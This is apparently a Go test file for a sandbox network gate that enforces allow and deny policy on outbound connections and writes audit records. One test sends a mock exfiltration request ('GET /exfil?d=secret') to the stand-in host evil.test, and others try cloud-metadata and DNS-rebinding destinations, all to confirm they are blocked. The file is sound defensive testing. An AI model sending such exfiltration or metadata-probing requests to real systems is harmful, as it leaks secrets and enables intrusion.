package gate

import (
	"bufio"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/miekg/dns"

	"moat.dev/moat/internal/audit"
	"moat.dev/moat/internal/peek"
	"moat.dev/moat/internal/policy"
)

// upstreamDNS is an authoritative server on loopback that logs every name
// it is asked: the proof that denied names never leave the gate.
type upstreamDNS struct {
	addr netip.AddrPort
	mu   sync.Mutex
	a    map[string]string
	log  []string
}

func startDNS(t testing.TB, records map[string]string) *upstreamDNS {
	t.Helper()
	u := &upstreamDNS{a: records}
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &dns.Server{PacketConn: pc, Handler: dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		m := new(dns.Msg)
		m.SetReply(q)
		name := strings.TrimSuffix(strings.ToLower(q.Question[0].Name), ".")
		u.mu.Lock()
		u.log = append(u.log, name)
		ip, ok := u.a[name]
		u.mu.Unlock()
		if !ok {
			m.Rcode = dns.RcodeNameError
		} else if q.Question[0].Qtype == dns.TypeA {
			m.Answer = append(m.Answer, &dns.A{Hdr: dns.RR_Header{Name: q.Question[0].Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 60}, A: net.ParseIP(ip)})
		}
		w.WriteMsg(m)
	})}
	go srv.ActivateAndServe()
	t.Cleanup(func() { srv.Shutdown() })
	u.addr = netip.MustParseAddrPort(pc.LocalAddr().String())
	return u
}

func (u *upstreamDNS) asked(name string) bool {
	u.mu.Lock()
	defer u.mu.Unlock()
	for _, n := range u.log {
		if n == name || strings.HasSuffix(n, "."+name) {
			return true
		}
	}
	return false
}

// fixture is a gate on a policy, with its audit log in a temp dir.
type fixture struct {
	g      *Gate
	dns    *upstreamDNS
	ledger *audit.Ledger
	log    *audit.Log
	path   string
}

func newFixture(t *testing.T, records map[string]string, allow, block []string) *fixture {
	t.Helper()
	u := startDNS(t, records)
	rules, err := policy.FromEntries(allow, policy.Allow, policy.LayerProject, "moat.toml")
	if err != nil {
		t.Fatal(err)
	}
	b, err := policy.FromEntries(block, policy.Block, policy.LayerProject, "moat.toml")
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "audit.jsonl")
	al, err := audit.Open(path, 0, 0)
	if err != nil {
		t.Fatal(err)
	}
	f := &fixture{dns: u, ledger: audit.NewLedger(100), log: al, path: path}
	f.g = New(Options{
		Sandbox:     "sb",
		Policy:      policy.Compile(append(rules, b...)),
		Resolver:    NewResolver(ResolverOptions{Servers: []netip.AddrPort{u.addr}}),
		Audit:       al,
		Ledger:      f.ledger,
		PeekTimeout: 2 * time.Second,
		DialTimeout: 2 * time.Second,
	})
	t.Cleanup(func() { al.Close() })
	return f
}

// records closes the audit log and returns what it holds, but for the
// start records of carried connections: the tests read each connection's
// whole record, its end (audit_flow_test.go tests the start).
func (f *fixture) records(t testing.TB) []audit.Record {
	t.Helper()
	var out []audit.Record
	for _, r := range f.allRecords(t) {
		if r.Phase != audit.PhaseStart {
			out = append(out, r)
		}
	}
	return out
}

// allRecords closes the audit log and returns what it holds.
func (f *fixture) allRecords(t testing.TB) []audit.Record {
	t.Helper()
	f.log.Close()
	var out []audit.Record
	if err := audit.Read(f.path, func(r audit.Record) bool { out = append(out, r); return true }); err != nil {
		t.Fatal(err)
	}
	return out
}

// flow runs one connection through the gate to dst and returns the guest's
// end (nil when refused) and a channel closed when the gate is done.
type flowResult struct {
	guest    net.Conn
	refused  bool
	accepted bool
	done     chan struct{}
}

func (f *fixture) flow(t *testing.T, dst string) *flowResult {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	r := &flowResult{done: make(chan struct{})}
	decided := make(chan struct{})
	var once sync.Once
	go func() {
		defer close(r.done)
		f.g.HandleTCP(context.Background(), TCPFlow{
			Src: netip.MustParseAddrPort("10.88.0.2:40000"),
			Dst: netip.MustParseAddrPort(dst),
			Accept: func() (net.Conn, error) {
				c, err := net.Dial("tcp", ln.Addr().String())
				r.accepted = true
				once.Do(func() { close(decided) })
				return c, err
			},
			Refuse: func() { r.refused = true; once.Do(func() { close(decided) }) },
		})
		once.Do(func() { close(decided) })
	}()
	select {
	case <-decided:
	case <-time.After(5 * time.Second):
		t.Fatal("the gate neither accepted nor refused within 5 s")
	}
	if r.accepted {
		ln.(*net.TCPListener).SetDeadline(time.Now().Add(2 * time.Second))
		c, err := ln.Accept()
		if err != nil {
			t.Fatal(err)
		}
		r.guest = c
		t.Cleanup(func() { c.Close() })
	}
	return r
}

// listenAt serves on a loopback address other than 127.0.0.1 (so the test
// can use the real ports 80 and 443 without meeting anything else).
func listenAt(t testing.TB, addr string) net.Listener {
	t.Helper()
	ln, err := net.Listen("tcp", addr)
	if errors.Is(err, syscall.EACCES) {
		t.Skipf("cannot listen on %s: ports below 1024 need root, which ./scripts/test.sh has: %v", addr, err)
	}
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	return ln
}

// loopback returns a fresh loopback address, so that concurrent runs of
// these tests (and tests elsewhere) never meet on 127.0.0.1:80.
func loopback() string {
	return fmt.Sprintf("127.%d.%d.%d", 100+rand.IntN(100), rand.IntN(256), 1+rand.IntN(254))
}

var hits atomic.Int64

func httpUpstream(t *testing.T, addr string) *httptest.Server {
	t.Helper()
	s := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		fmt.Fprintf(w, "hello from %s for %s", addr, r.Host)
	}))
	s.Listener = listenAt(t, addr)
	s.Start()
	t.Cleanup(s.Close)
	return s
}

func TestPlainHTTPAllowedByHost(t *testing.T) {
	a := loopback()
	httpUpstream(t, a+":80")
	f := newFixture(t, map[string]string{"allowed.test": a}, []string{"allowed.test", a}, nil)
	// The guest dialed some other address: the gate dials what the host
	// resolves for the Host header.
	r := f.flow(t, "198.51.100.66:80")
	if !r.accepted {
		t.Fatal("not accepted")
	}
	fmt.Fprintf(r.guest, "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
	resp, err := http.ReadResponse(bufio.NewReader(r.guest), nil)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != 200 || !strings.Contains(string(body), "for allowed.test") {
		t.Fatalf("got %d %q", resp.StatusCode, body)
	}
	r.guest.Close()
	<-r.done
	recs := f.records(t)
	if len(recs) != 1 || recs[0].Verdict != "allow" || recs[0].NameFrom != "host" || recs[0].Rule != "allowed.test" || recs[0].Layer != "project" || recs[0].Upstream != a+":80" {
		t.Fatalf("audit = %+v", recs)
	}
	if recs[0].BytesDown == 0 || recs[0].BytesUp == 0 {
		t.Errorf("byte counts missing: %+v", recs[0])
	}
}

func TestPlainHTTPDeniedGets403WithCommand(t *testing.T) {
	a := loopback()
	before := hits.Load()
	httpUpstream(t, a+":80")
	f := newFixture(t, map[string]string{"evil.test": a}, []string{a}, nil)
	r := f.flow(t, a+":80")
	fmt.Fprintf(r.guest, "GET /exfil?d=secret HTTP/1.1\r\nHost: evil.test\r\n\r\n")
	resp, err := http.ReadResponse(bufio.NewReader(r.guest), nil)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != 403 || !strings.Contains(string(body), "moat network allow sb evil.test") {
		t.Fatalf("got %d %q", resp.StatusCode, body)
	}
	<-r.done
	if hits.Load() != before {
		t.Error("the upstream was reached")
	}
	if f.dns.asked("evil.test") {
		t.Error("the denied name was sent upstream")
	}
	if e := f.ledger.Entries(); len(e) != 1 || e[0].Dest != "evil.test:80" {
		t.Errorf("ledger = %+v", e)
	}
}

func TestTLSDialsWhatTheSNIResolvesTo(t *testing.T) {
	a := loopback()
	ln := listenAt(t, a+":443")
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "tls ok") }))
	srv.Listener = ln
	srv.StartTLS()
	t.Cleanup(srv.Close)
	f := newFixture(t, map[string]string{"allowed.test": a}, []string{"allowed.test", a}, nil)
	// An allowed SNI sent to an attacker's address (threat model 9).
	r := f.flow(t, "198.51.100.66:443")
	tc := tls.Client(r.guest, &tls.Config{ServerName: "allowed.test", InsecureSkipVerify: true})
	tc.SetDeadline(time.Now().Add(5 * time.Second))
	fmt.Fprintf(tc, "GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
	resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	if string(body) != "tls ok" {
		t.Fatalf("body %q", body)
	}
	tc.Close()
	<-r.done
	recs := f.records(t)
	if len(recs) != 1 || recs[0].NameFrom != "sni" || recs[0].Name != "allowed.test" || recs[0].Upstream != a+":443" {
		t.Fatalf("audit = %+v", recs)
	}
}

func TestTLSDeniedSNIAndNoSNI(t *testing.T) {
	a := loopback()
	f := newFixture(t, map[string]string{"evil.test": a}, []string{"allowed.test"}, nil)
	for _, sni := range []string{"evil.test", ""} {
		r := f.flow(t, "198.51.100.66:443")
		tc := tls.Client(r.guest, &tls.Config{ServerName: sni, InsecureSkipVerify: true})
		tc.SetDeadline(time.Now().Add(5 * time.Second))
		if err := tc.Handshake(); err == nil {
			t.Fatalf("sni %q: handshake succeeded", sni)
		}
		<-r.done
	}
	recs := f.records(t)
	if len(recs) != 2 || recs[0].Verdict != "deny" || recs[1].Verdict != "deny" || !strings.Contains(string(recs[1].Reason), "no SNI") {
		t.Fatalf("audit = %+v", recs)
	}
	if f.dns.asked("evil.test") {
		t.Error("a denied SNI was resolved upstream")
	}
}

func banner(t *testing.T, addr string) {
	t.Helper()
	ln := listenAt(t, addr)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			io.WriteString(c, "SSH-2.0-test\r\n")
			c.Close()
		}
	}()
}

func TestOtherPortByBinding(t *testing.T) {
	a := loopback()
	banner(t, a+":2222")
	f := newFixture(t, nil, []string{"ssh.allowed.test:2222", a + "/32"}, nil)
	ip := netip.MustParseAddr(a)
	// Unbound address: refused before any dial, and never accepted.
	f.g.SetPolicy(policy.Compile(mustRules(t, policy.Allow, "ssh.allowed.test:2222")))
	if r := f.flow(t, a+":2222"); !r.refused || r.accepted {
		t.Fatalf("unbound address: refused=%v accepted=%v", r.refused, r.accepted)
	}
	// Bound by the guest's own lookup: a server-speaks-first protocol
	// works, nothing is sniffed.
	f.g.SetPolicy(policy.Compile(mustRules(t, policy.Allow, "ssh.allowed.test:2222", a+"/32")))
	f.g.Bindings().Add("ssh.allowed.test", []netip.Addr{ip}, "observed", time.Now().Add(time.Minute))
	r := f.flow(t, a+":2222")
	if !r.accepted {
		t.Fatal("bound address refused")
	}
	r.guest.SetDeadline(time.Now().Add(3 * time.Second))
	b, _ := io.ReadAll(r.guest)
	if !strings.HasPrefix(string(b), "SSH-2.0-test") {
		t.Fatalf("banner %q", b)
	}
	// Another port of the same name is not in the rule.
	if r := f.flow(t, a+":2223"); !r.refused {
		t.Fatal("port outside the rule accepted")
	}
}

func mustRules(t *testing.T, a policy.Action, entries ...string) []policy.Rule {
	t.Helper()
	r, err := policy.FromEntries(entries, a, policy.LayerProject, "test")
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func TestAllowedNameToPrivateAddressIsRefused(t *testing.T) {
	// A name rule never opens loopback or private space: rebinding an
	// allowed name to an internal address gets nothing (threat model 16, 18–20).
	f := newFixture(t, map[string]string{"rebind.test": "10.1.2.3", "meta.test": "169.254.169.254"}, []string{"rebind.test", "meta.test"}, nil)
	for _, name := range []string{"rebind.test", "meta.test"} {
		r := f.flow(t, "198.51.100.66:80")
		fmt.Fprintf(r.guest, "GET / HTTP/1.1\r\nHost: %s\r\n\r\n", name)
		r.guest.SetDeadline(time.Now().Add(3 * time.Second))
		io.ReadAll(r.guest)
		<-r.done
	}
	for _, rec := range f.records(t) {
		if rec.Verdict != "deny" || !strings.Contains(string(rec.Reason), "refused") {
			t.Errorf("audit %+v", rec)
		}
	}
}

func TestRefusesSpecialDestinations(t *testing.T) {
	f := newFixture(t, nil, []string{"10.20.0.0/16"}, nil)
	for _, tc := range []struct {
		dst  string
		want bool
	}{
		{"127.0.0.1:22", true},
		{"169.254.169.254:80", true},
		{"10.88.0.1:8080", true},
		{"100.100.100.200:80", true},
		{"10.20.1.2:5432", false}, // opened by the address rule
		{"198.51.100.66:22", false},
	} {
		if got := f.g.Refuses(netip.MustParseAddrPort(tc.dst)); got != tc.want {
			t.Errorf("Refuses(%s) = %v, want %v", tc.dst, got, tc.want)
		}
	}
}

func TestPoolAddressFollowsLiveAllow(t *testing.T) {
	a := loopback()
	banner(t, a+":2222")
	f := newFixture(t, map[string]string{"late.test": a}, []string{a}, nil)
	ip := f.g.pool.Addr("late.test")
	if r := f.flow(t, netip.AddrPortFrom(ip, 2222).String()); !r.refused {
		t.Fatal("denied pool name accepted")
	}
	f.g.SetPolicy(policy.Compile(mustRules(t, policy.Allow, "late.test", a)))
	r := f.flow(t, netip.AddrPortFrom(ip, 2222).String())
	if !r.accepted {
		t.Fatal("allowed pool name refused")
	}
	r.guest.SetDeadline(time.Now().Add(3 * time.Second))
	if b, _ := io.ReadAll(r.guest); !strings.HasPrefix(string(b), "SSH-2.0") {
		t.Fatalf("banner %q", b)
	}
}

// TestSettlingDecidesAgain: a destination no rule decides waits for the
// rules still on their way (the host's tools asked for their registries)
// and is decided again; one a rule blocks never waits.
func TestSettlingDecidesAgain(t *testing.T) {
	a := loopback()
	banner(t, a+":2222")
	f := newFixture(t, map[string]string{"late.test": a, "never.test": a, "blocked.test": a}, []string{a}, []string{"blocked.test"})
	var calls atomic.Int32
	var add []string // what the next Settling adds to the policy
	f.g.o.Settling = func(ctx context.Context) bool {
		calls.Add(1)
		if add == nil {
			return false
		}
		rules := append(mustRules(t, policy.Allow, append([]string{a}, add...)...), mustRules(t, policy.Block, "blocked.test")...)
		f.g.SetPolicy(policy.Compile(rules))
		return true
	}
	dst := func(name string) string { return netip.AddrPortFrom(f.g.pool.Addr(name), 2222).String() }

	// Nothing on its way: refused as before, after asking.
	if r := f.flow(t, dst("late.test")); !r.refused || calls.Load() != 1 {
		t.Fatalf("nothing settling: refused %v, Settling called %d times; want refused after one call", r.refused, calls.Load())
	}
	// The rule arrives while the connection waits: it goes through.
	add = []string{"late.test"}
	r := f.flow(t, dst("late.test"))
	if !r.accepted {
		t.Fatal("a name allowed by the rules that settled was refused")
	}
	r.guest.SetDeadline(time.Now().Add(3 * time.Second))
	if b, _ := io.ReadAll(r.guest); !strings.HasPrefix(string(b), "SSH-2.0") {
		t.Fatalf("banner %q", b)
	}
	r.guest.Close()
	<-r.done // audited when it ends
	// Settled without a rule for it: refused.
	r = f.flow(t, dst("never.test"))
	if !r.refused {
		t.Fatal("a name no settled rule allows went through")
	}
	<-r.done // audited after the refusal
	// A block rule decides at once: no waiting.
	before := calls.Load()
	if r := f.flow(t, dst("blocked.test")); !r.refused || calls.Load() != before {
		t.Fatalf("blocked name: refused %v, Settling called %d more times; want refused without waiting", r.refused, calls.Load()-before)
	}

	var late, never bool
	for _, rec := range f.records(t) {
		switch {
		case rec.Name == "late.test" && rec.Verdict == "allow":
			late = rec.Rule == "late.test"
		case rec.Name == "never.test":
			never = rec.Verdict == "deny" && rec.Rule == ""
		}
	}
	if !late || !never {
		t.Errorf("audit: late.test allowed by its rule %v, never.test denied with no rule %v", late, never)
	}
}

func TestNoPolicyDeniesEverything(t *testing.T) {
	g := New(Options{Sandbox: "sb"})
	if d := g.decideName("anything.test", 443); d.Verdict != policy.Deny {
		t.Fatal("no policy allowed a name")
	}
	f := &fixture{g: g}
	if r := f.flow(t, "198.51.100.66:22"); !r.refused {
		t.Fatal("no policy accepted a connection")
	}
}

func TestForceClose(t *testing.T) {
	in := []byte("GET / HTTP/1.1\r\nHost: a.test\r\n\r\nBODY")
	got := string(forceClose(in, mustHead(t, in)))
	if got != "GET / HTTP/1.1\r\nHost: a.test\r\nConnection: close\r\n\r\nBODY" {
		t.Fatalf("got %q", got)
	}
	up := []byte("GET /ws HTTP/1.1\r\nHost: a.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
	if string(forceClose(up, mustHead(t, up))) != string(up) {
		t.Fatal("an upgrade was rewritten")
	}
}

func mustHead(t *testing.T, b []byte) peek.Request {
	t.Helper()
	r, err := peek.ParseHTTPHead(b)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func TestEchoOnlyForAllowedDestinations(t *testing.T) {
	f := newFixture(t, nil, []string{"ping.test", "198.51.100.7"}, nil)
	bound := netip.MustParseAddr("198.51.100.8")
	f.g.Bindings().Add("ping.test", []netip.Addr{bound}, SourceObserved, time.Now().Add(time.Minute))
	for _, tc := range []struct {
		dst  string
		want bool
	}{
		{"198.51.100.8", true},  // bound to an allowed name
		{"198.51.100.7", true},  // an address rule
		{"198.51.100.9", false}, // nothing vouches for it
		{"169.254.169.254", false},
		{f.g.pool.Addr("denied.test").String(), false},
	} {
		if got := f.g.Echo(netip.MustParseAddr(tc.dst)); got != tc.want {
			t.Errorf("Echo(%s) = %v, want %v", tc.dst, got, tc.want)
		}
	}
	if denied := f.ledger.Total(); denied != 3 {
		t.Errorf("ledger counts %d denials, want 3", denied)
	}
}
